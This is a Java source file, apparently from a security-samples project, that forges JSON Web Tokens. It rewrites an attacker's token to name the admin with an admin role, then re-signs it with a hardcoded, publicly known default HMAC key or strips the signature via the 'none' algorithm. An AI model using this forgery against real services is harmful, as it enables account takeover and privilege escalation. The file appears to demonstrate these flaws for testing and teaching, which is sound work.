package io.github.secureblocks.samples.attack;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.security.GeneralSecurityException;
import java.util.Base64;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/** An attacker's own token, rewritten to be the admin's. */
final class ForgedToken {
    /** Anybody can read it in the source of as-generated, and in the text that it was taken from. */
    private static final String PUBLISHED_KEY = "notes-app-super-secret-key-change-me-in-production";

    private ForgedToken() {}

    static String signedWithThePublishedKey(String own) {
        String text = rewritten(own, "HS256");
        try {
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(PUBLISHED_KEY.getBytes(UTF_8), "HmacSHA256"));
            return text + "." + encode(mac.doFinal(text.getBytes(UTF_8)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    static String unsigned(String own) {
        return rewritten(own, "none") + ".";
    }

    static String payload(String token) {
        return decode(token.split("\\.")[1]);
    }

    private static String rewritten(String own, String algorithm) {
        String header =
                decode(own.split("\\.")[0]).replaceAll("\"alg\"\\s*:\\s*\"\\w+\"", "\"alg\":\"" + algorithm + "\"");
        String payload = payload(own)
                .replace("\"" + Target.ATTACKER + "\"", "\"" + HttpContract.ADMIN_NAME + "\"")
                .replace("\"user\"", "\"admin\"");
        return encode(header.getBytes(UTF_8)) + "." + encode(payload.getBytes(UTF_8));
    }

    private static String decode(String part) {
        return new String(Base64.getUrlDecoder().decode(part), UTF_8);
    }

    private static String encode(byte[] bytes) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
    }
}
